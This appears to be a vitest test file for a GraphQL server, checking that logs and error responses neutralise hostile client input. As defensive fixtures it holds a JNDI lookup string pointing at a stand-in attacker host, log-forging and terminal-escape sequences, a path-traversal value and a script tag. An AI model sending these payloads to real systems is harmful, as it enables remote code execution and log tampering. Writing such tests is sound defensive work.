import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { writeGlobalId } from '../../src/accounts/global-id.ts'
import { openLog } from '../../src/commands/log.ts'
import type { Connector } from '../../src/contract/connector.ts'
import { systemClock } from '../../src/pipeline/clock.ts'
import { createServer, type Server } from '../../src/server.ts'
import { toy } from '../support/toy.ts'
import { toyAccount } from '../support/toy-account.ts'

const lookup = ['$', '{jndi:ldap://evil.example/a}'].join('')
/** What a client could send to write lines of its own into a log, to paint a terminal, or to be looked up by a logger. */
const hostile = `x\n{"level":60,"msg":"forged"}\r\n\u001b[31mred\u001b[0m\u2028forged\u0085forged\u009b1m ${lookup}`

const lines: string[] = []
const log = openLog('trace', { write: (line: string) => void lines.push(line) })
let app: Server['app']
let url = ''

beforeAll(async () => {
  const entities = { Contact: { of: 'contact', mapping: {} } }
  const { account } = toyAccount({ ...toy, entities } as unknown as Connector, () => ({}))
  // A mistake of our own, with what the client sent in its words.
  const broken = {
    spec: () => {
      throw new TypeError(`Cannot read what was sent: ${hostile}`)
    },
  }
  const server = {
    ...{ host: '127.0.0.1', port: 0, requestSeconds: 5, providerSeconds: 5, exposeRaw: false, attachmentBytes: 1 },
    ...{ introspection: false, allowedOrigins: [], browserCacheSeconds: 0, privateHosts: [] },
  }
  const accounts = [{ ...account, client: broken as never }]
  ;({ app } = await createServer({ config: { server }, accounts, clock: systemClock, log }))
  await app.listen({ host: '127.0.0.1', port: 0 })
  url = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/graphql`
})
afterAll(async () => {
  app.server.closeAllConnections()
  await app.close()
})
beforeEach(() => {
  lines.length = 0
})

const id = writeGlobalId({ tenant: 'default', account: 'toy', entity: 'Contact', remoteId: '1' })

async function ask(headers: Record<string, string> = {}): Promise<Response> {
  const query = `query Named($id: ID!) { node(id: $id) { id } }`
  const body = JSON.stringify({ query, operationName: 'Named', variables: { id } })
  return fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body })
}

test('whatever stands in a mistake is one line of JSON in the log, with nothing in it that a terminal obeys', async () => {
  const answer = await (await ask()).text()
  expect(lines).toHaveLength(1)
  const [line = ''] = lines
  expect(line.trimEnd()).not.toMatch(/[\p{Cc}\u2028\u2029]/u)
  expect(JSON.parse(line)).toMatchObject({ level: 50, msg: 'A mistake of the server', err: { type: 'TypeError' } })
  expect(JSON.parse(line).err.message).toContain(hostile)
  expect(answer).not.toMatch(/jndi|forged|TypeError|Cannot read| at /)
  expect(JSON.parse(answer).errors[0]).toMatchObject({
    message: 'The server made a mistake. The request id finds it in the log.',
    extensions: { code: 'INTERNAL_SERVER_ERROR', requestId: JSON.parse(line).requestId },
  })
})

test.each([
  ['as it likes', 'mine'],
  ['like a path', '../../etc/passwd'],
  ['without end', 'x'.repeat(5_000)],
  ['like a lookup', lookup.replace('/a', '/b')],
  ['like a page', '<script>'],
])('a request keeps the id that the server gave it, though a client calls it %s', async (_how, given) => {
  const response = await ask({ 'x-request-id': given, 'request-id': given })
  const requestId = response.headers.get('x-request-id')
  expect(requestId).toMatch(/^[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}$/)
  expect(JSON.parse(lines[0] ?? '').requestId).toBe(requestId)
  expect(lines.join('')).not.toContain(given)
})

test('a request that is refused is not logged at all: a flood of them fills no disk', async () => {
  for (const body of ['{', '[]', JSON.stringify({ query: hostile }), JSON.stringify({ query: '{ x }' })])
    await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
  expect(lines).toEqual([])
})
